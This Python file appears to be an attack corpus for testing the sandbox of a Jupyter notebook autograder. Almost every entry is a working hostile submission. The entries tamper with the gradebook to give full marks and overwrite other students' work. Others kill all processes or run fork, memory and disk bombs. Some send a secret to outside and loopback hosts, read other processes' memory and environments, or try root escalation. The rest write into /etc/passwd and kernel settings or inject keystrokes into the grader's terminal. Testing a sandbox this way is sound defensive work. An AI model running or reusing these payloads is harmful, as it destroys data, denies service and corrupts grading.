"""Harm to others: files, processes, network, memory, disk, and code that outlives its cell."""

from attacks.corpus import BOAST, EASY, HandIn, entry

BOMB = "would take this machine down"
RUN = """import os
RUN = next((line.split()[1] for line in open("/proc/self/mounts") if "/kernel-" in line.split()[1]), "/nowhere")
"""


@entry()
def writes_the_gradebook(hand: HandIn) -> None:
    """Opens the gradebook by its full path and gives everybody full marks."""
    places = [f"{hand.world.course}/gradebook.db", "../../../gradebook.db", "/proc/1/cwd/gradebook.db"]
    hand.own(f"""import os, sqlite3
for path in {places!r}:
    try:
        if os.path.exists(path):
            base = sqlite3.connect(path)
            base.execute("update grade set auto_score = 999")
            base.commit()
            print("{BOAST}", path)
    except Exception as error:
        print(type(error))""")


@entry()
def writes_the_configuration(hand: HandIn) -> None:
    """Appends to nbgrader_config.py, writes one into every folder above, and a notebook over the source."""
    course = str(hand.world.course)
    hand.own(f"""from pathlib import Path
for place in ({course!r}, {str(hand.world.repository)!r}, "../../..", "..", "/usr/local/etc/jupyter", "/etc/jupyter"):
    for name in ("nbgrader_config.py", "jupyter_config.py", "source/lab1_boxes/boxes.ipynb", "release/lab1_boxes/boxes.ipynb"):
        try:
            with open(Path(place, name), "a") as file:
                file.write("\\nc.ClearSolutions.enabled = False\\n")
            if not str(Path(place).resolve()).startswith("/tmp/") or place == {course!r}:
                print("{BOAST}", place, name)
        except OSError:
            pass""")


@entry()
def writes_another_submission(hand: HandIn) -> None:
    """Overwrites the neighbour's hand-in, graded copy, feedback, and the grader's results."""
    course = str(hand.world.course)
    hand.own(f"""import glob, os
for pattern in ("submitted/*/*/*", "autograded/*/*/*", "feedback/*/*/*", ".grader/*/*", ".grader/*/*/*/*"):
    for path in glob.glob(os.path.join({course!r}, pattern)):
        try:
            open(path, "w").write("gone")
            print("{BOAST}", path)
        except OSError:
            pass
try:
    open({str(hand.world.canary)!r}, "w").write("gone")
    print("{BOAST} canary")
except OSError:
    pass""")


@entry(stock=BOMB)
def kills_everybody(hand: HandIn) -> None:
    """Signals every process number from its parent's to the largest there is."""
    hand.own("""import os, signal
mine = os.getpid()
for pid in [os.getppid(), *range(2, 5000)]:
    if pid not in (0, mine):
        for number in (signal.SIGKILL, signal.SIGSTOP):
            try:
                os.kill(pid, number)
            except OSError:
                pass
for group in (os.getpgid(0), os.getppid()):
    try:
        os.killpg(group, signal.SIGCONT)
    except OSError:
        pass
os.kill(-1, signal.SIGKILL)""")


@entry(*EASY)
def kills_itself(hand: HandIn) -> None:
    """A function ends its process by segmentation fault; the ones solved honestly still count."""
    hand.solve(*EASY)
    hand.write(box_iou="import ctypes\n\n\ndef box_iou(boxes1, boxes2):\n    ctypes.string_at(0)")


@entry()
def network(hand: HandIn) -> None:
    """Sends the hidden inputs away: over TCP to this machine and another one, UDP, IPv6 and DNS."""
    hand.own(f"""import socket
for family, address in ((socket.AF_INET, ("127.0.0.1", {hand.world.port})), (socket.AF_INET6, ("::1", {hand.world.port})),
                        (socket.AF_INET, ("192.0.2.1", 80))):
    try:
        with socket.socket(family) as line:
            line.settimeout(1)
            line.connect(address)
            line.sendall(b"secret")
            print("{BOAST}", address)
    except OSError:
        pass
try:
    print("{BOAST}", socket.getaddrinfo("example.com", 80))
except OSError:
    pass""")


@entry()
def unix_sockets(hand: HandIn) -> None:
    """Connects to every Unix socket that it can see or has heard of, other kernels' and the preloaded process's."""
    hand.own(f"""import glob, os, socket
{RUN}
own = set(glob.glob(RUN + "/*"))
known = {{line.split()[-1] for line in open("/proc/net/unix").readlines()[1:] if len(line.split()) > 7}}
seen = {{*glob.glob("/tmp/*/*"), *glob.glob("/tmp/*/*/*"), *glob.glob("/run/**", recursive=True), *glob.glob("/var/run/**", recursive=True)}}
for path in (known | seen | {{RUN + "/../preloaded.sock", os.path.dirname(RUN) + "/preloaded.sock"}}) - own:
    try:
        with socket.socket(socket.AF_UNIX) as line:
            line.settimeout(1)
            line.connect("\\0" + path[1:] if path.startswith("@") else path)
            print("{BOAST}", path)
    except OSError:
        pass""")


@entry()
def process_table(hand: HandIn) -> None:
    """Reads /proc for other processes, their command lines, environments, memory and open files."""
    hand.own(f"""import os
mine = os.getpid()
for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) != mine:
        print("{BOAST}", pid, open(f"/proc/{{pid}}/cmdline").read())
for name in ("environ", "cmdline"):
    if "nbgrader" in open("/proc/self/" + name).read() or b"RCNN_SECRET" in open("/proc/self/environ", "rb").read():
        print("{BOAST}", name)
if "RCNN_SECRET" in os.environ:
    print("{BOAST} environment")
for folder in ("/proc/1/root", "/proc/1/cwd", "/proc/self/root"):
    for name in os.listdir(folder):
        if name in ("gradebook.db", "boot", "srv", "var"):
            print("{BOAST}", folder, name)""")


@entry()
def open_files(hand: HandIn) -> None:
    """Looks through the descriptors that it was born with for a file or pipe of the grader's."""
    hand.own(f"""import os
for name in os.listdir("/proc/self/fd"):
    try:
        target = os.readlink("/proc/self/fd/" + name)
    except OSError:
        continue
    if target.startswith("/") and not target.startswith(("/dev/null", "/proc/", "/tmp/", "/dev/urandom", "/dev/random")):
        print("{BOAST}", name, target)
    if target.startswith("pipe:") and int(name) > 2:
        try:
            os.write(int(name), b"10.0\\n")
        except OSError:
            pass""")


@entry()
def traces_others(hand: HandIn) -> None:
    """Attaches to other processes with ptrace, and reads their memory."""
    hand.own(f"""import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in [os.getppid(), *range(1, 300)]:
    if pid != os.getpid() and libc.ptrace(16, pid, 0, 0) == 0:
        print("{BOAST} attached to", pid)
for pid in range(0, 300):
    try:
        if pid != os.getpid():
            open(f"/proc/{{pid}}/mem", "rb").read(1)
            print("{BOAST} memory of", pid)
    except OSError:
        pass""")


@entry()
def new_namespaces(hand: HandIn) -> None:
    """Asks for namespaces, mounts, another root and more rights."""
    hand.own(f"""import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for name, number in (("user", 0x10000000), ("mounts", 0x20000), ("pid", 0x20000000), ("net", 0x40000000)):
    if libc.unshare(number) == 0:
        print("{BOAST} namespace", name)
tries = {{"mount": lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None), "remount": lambda: libc.mount(None, b"/usr", None, 32, None),
         "bind": lambda: libc.mount(None, b"/usr", None, 32 | 4096, None), "umount": lambda: libc.umount2(b"/tmp", 2),
         "chroot": lambda: libc.chroot(b"/tmp"), "setuid": lambda: libc.setuid(0), "setgid": lambda: libc.setgid(0),
         "hostname": lambda: libc.sethostname(b"evil", 4), "reboot": lambda: libc.reboot(0), "kexec": lambda: libc.syscall(246, 0, 0, 0, 0),
         "pivot": lambda: libc.pivot_root(b"/tmp", b"/tmp"), "setns": lambda: libc.setns(os.open("/proc/1/ns/mnt", 0), 0) if os.getpid() != 1 else -1,
         "dumpable": lambda: libc.syscall(308, os.open("/proc/self/ns/user", 0), 0)}}
for name, act in tries.items():
    try:
        if act() == 0:
            print("{BOAST}", name)
    except OSError:
        pass""")


@entry()
def becomes_root(hand: HandIn) -> None:
    """Runs the programs that are set-uid root, and raises its own limits."""
    hand.own(f"""import os, resource, subprocess
for words in (["su", "-c", "id"], ["sudo", "-n", "id"], ["mount", "-t", "tmpfs", "none", "/mnt"], ["newuidmap", "1", "0", "0", "1"],
              ["bwrap", "--ro-bind", "/", "/", "true"], ["unshare", "-r", "id"], ["pkexec", "id"]):
    try:
        done = subprocess.run(words, capture_output=True, text=True, timeout=5, stdin=subprocess.DEVNULL)
        if done.returncode == 0:
            print("{BOAST}", words, done.stdout)
    except (OSError, subprocess.TimeoutExpired):
        pass
for kind in (resource.RLIMIT_NPROC, resource.RLIMIT_DATA, resource.RLIMIT_FSIZE, resource.RLIMIT_CPU):
    try:
        resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        print("{BOAST} limit", kind)
    except (OSError, ValueError):
        pass""")


@entry()
def writes_the_system(hand: HandIn) -> None:
    """Writes into system folders, site-packages, our packages, devices and the kernel's settings."""
    hand.own(f"""import os, sysconfig, torch
from pathlib import Path
import course, autograder.student.protocol
places = ["/usr/evil", "/etc/evil", "/etc/passwd", "/site/evil", "/evil", "/home/evil", "/dev/evil", "/var/evil",
          course.__file__, autograder.student.protocol.__file__, torch.__file__, sysconfig.get_path("purelib") + "/evil.py",
          "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/user/max_user_namespaces", "/proc/1/oom_score_adj",
          "/dev/kmsg", "/dev/mem", "/dev/vda", "/sys/kernel/uevent_helper"]
for place in places:
    try:
        with open(place, "r+b" if Path(place).exists() else "wb") as file:
            file.write(b"-1000" if "oom" in place else b"")
            file.flush()
        if "oom" in place and int(open(place).read()) >= 0:
            continue
        if "kernel" in place or "max_user" in place:
            os.system(f"echo 9 > {{place}}")
            continue
        print("{BOAST}", place)
    except OSError:
        pass""")


@entry(stock=BOMB)
def fork_bomb(hand: HandIn) -> None:
    """Forks for ever, in every process."""
    hand.own("""import os, time
end = time.time() + 3
while time.time() < end:
    try:
        os.fork()
    except OSError:
        time.sleep(0.1)""")


@entry(stock=BOMB)
def processor_bomb(hand: HandIn) -> None:
    """As many processes as it gets compute for nothing, in groups and sessions of their own, while others are graded."""
    hand.own("""import os
for _ in range(60):
    try:
        if not os.fork():
            os.setsid()
            while True:
                pass
    except OSError:
        break""")


@entry(stock=BOMB)
def memory_bomb(hand: HandIn) -> None:
    """Takes memory until it gets no more, in several processes."""
    hand.own(f"""import os, time
for _ in range(3):
    if not os.fork():
        break
hoard = []
end = time.time() + 20
try:
    while time.time() < end:
        hoard.append(b"x" * 2**26)
        if len(hoard) > 60:
            print("{BOAST} in one process")
            break
except MemoryError:
    time.sleep(5)""")


@entry(stock=BOMB)
def shared_memory_flood(hand: HandIn) -> None:
    """Takes shared memory, which no limit on data counts, while it pours out text so that nobody finds time to look."""
    hand.own(f"""import mmap
hoard = []
for _ in range(96):
    hoard.append(mmap.mmap(-1, 2**26))
    for page in range(0, 2**26, 4096):
        hoard[-1][page] = 1
        if page % 2**20 == 0:
            print("x" * 5000, flush=True)
print("{BOAST}")""")


@entry(stock=BOMB)
def hidden_memory(hand: HandIn) -> None:
    """Hides 5 GiB in anonymous files, which belong to no process's memory."""
    hand.own(f"""import os
block = b"x" * 2**22
hoard = []
for _ in range(40):
    hoard.append(os.memfd_create("hoard"))
    for _ in range(31):
        os.write(hoard[-1], block)
    os.sched_yield()
import time
time.sleep(1)
print("{BOAST}")""")


@entry(stock=BOMB)
def detached_memory(hand: HandIn) -> None:
    """Hides 5 GiB in System V segments that nobody has attached."""
    hand.own(f"""import ctypes, time
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
got = 0
for number in range(20):
    handle = libc.shmget(1000 + number, 2**28, 0o1666)
    if handle < 0:
        break
    place = libc.shmat(handle, None, 0)
    ctypes.memset(place, 1, 2**28)
    libc.shmdt(ctypes.c_void_p(place))
    got += 2**28
time.sleep(1)
if got > 2**30:
    print("{BOAST}", got)""")


@entry(stock=BOMB)
def fills_the_disk(hand: HandIn) -> None:
    """Fills every folder that it may write to, with files that are deleted and stay open."""
    hand.own(f"""{RUN}
import os
block = b"x" * 2**20
for place in ("/tmp", "/dev/shm", RUN, "/home", "/dev", "/var/tmp", "."):
    held, written = [], 0
    try:
        while written < 700 * 2**20:
            file = open(os.path.join(place, f"fill-{{len(held)}}"), "wb")
            held.append(file)
            os.unlink(file.name)
            for _ in range(100):
                written += file.write(block)
                file.flush()
    except OSError:
        pass
    if written > 600 * 2**20 or (written and place == RUN):
        print("{BOAST}", place, written)
    for file in held:
        try:
            file.close()
        except OSError:
            pass""")


@entry()
def folders_without_end(hand: HandIn) -> None:
    """Nests 3,000 folders where the grader cleans up, which Python's rmtree cannot remove."""
    hand.own(f"""{RUN}
for place in (RUN, "/tmp"):
    try:
        os.chdir(place)
        for _ in range(3000):
            os.mkdir("d")
            os.chdir("d")
        if place == RUN:
            print("{BOAST}")
    except OSError:
        pass
    os.chdir("/tmp")""")


@entry()
def sockets_replaced(hand: HandIn) -> None:
    """Replaces the kernel's sockets and connection file by links to files of others."""
    hand.own(f"""{RUN}
import glob
for path in glob.glob(RUN + "/*"):
    try:
        os.rename(path, path + ".old")
        os.symlink({str(hand.world.canary)!r}, path)
        print("{BOAST}", path)
    except OSError:
        pass""")


@entry("remove_small_boxes")
def thread_outlives_its_cell(hand: HandIn) -> None:
    """A thread goes on after its cell, and swaps answers and modules while others are judged."""
    hand.solve("remove_small_boxes")
    hand.own("""import sys, threading, time
def meddle():
    while True:
        time.sleep(0.05)
        sys.stderr.write("meddling")
        for name in ("box_iou", "box_area"):
            globals()[name] = lambda *args: 10.0
threading.Thread(target=meddle, daemon=True).start()""")


@entry()
def daemons_outlive_the_kernel(hand: HandIn) -> None:
    """Leaves daemons behind that ignore signals, in sessions of their own."""
    hand.own("""import os, signal, time
for _ in range(3):
    if not os.fork():
        os.setsid()
        if os.fork():
            os._exit(0)
        for number in range(1, 32):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        time.sleep(3600)
        os._exit(0)
import atexit
atexit.register(time.sleep, 3600)""")


@entry()
def terminal(hand: HandIn) -> None:
    """Types a command into the terminal of whoever grades."""
    hand.own(f"""import fcntl, os, termios
for path in ("/dev/tty", "/dev/console", "/dev/pts/0", *[f"/proc/self/fd/{{n}}" for n in range(20)]):
    try:
        line = os.open(path, os.O_RDWR | os.O_NOCTTY)
        fcntl.ioctl(line, termios.TIOCSTI, b"!")
        print("{BOAST}", path)
    except OSError:
        pass""")


@entry(*EASY)
def never_ends(hand: HandIn) -> None:
    """A function loops for ever and swallows every interruption; the ones solved honestly still count."""
    hand.solve(*EASY)
    hand.write(
        box_iou="""def box_iou(boxes1, boxes2):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass"""
    )


@entry(*EASY, stock="half a minute for a cell, and the kernel is not interrupted")
def cell_never_ends(hand: HandIn) -> None:
    """A cell loops for ever and ignores the interruption; what stands in other cells still counts."""
    hand.solve(*EASY)
    hand.own(
        """import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass""",
        before="box_iou",
    )


@entry("box_area")
def sleeps(hand: HandIn) -> None:
    """A function sleeps for an hour, with all signals blocked, so that no limit of computing time is reached."""
    hand.solve("box_area")
    hand.write(
        yxyx_to_xyxy="""import signal, time
def yxyx_to_xyxy(boxes):
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 32))
    time.sleep(3600)"""
    )


@entry()
def sixty_megabytes_in_a_line(hand: HandIn) -> None:
    """One line of 60 MB goes to standard output, one to standard error, one into an error and one into a picture."""
    hand.own("""import sys
from IPython.display import display
print("x" * 60_000_000)
print("y" * 60_000_000, file=sys.stderr)
display({"image/png": "A" * 20_000_000, "text/plain": "p" * 20_000_000}, raw=True)
raise ValueError("z" * 2_000_000)""")


@entry()
def outputs_of_300_cells(hand: HandIn) -> None:
    """Three hundred cells print half a megabyte each, which makes a feedback page of 150 MB."""
    for _ in range(300):
        hand.own("print(('z' * 99 + chr(10)) * 5000)")


@entry()
def clock_and_priority(hand: HandIn) -> None:
    """Sets the clock, and takes the highest priority."""
    hand.own(f"""import os, time
for act in (lambda: time.clock_settime(time.CLOCK_REALTIME, 0), lambda: os.nice(-20),
            lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50))):
    try:
        act()
        print("{BOAST}")
    except OSError:
        pass""")
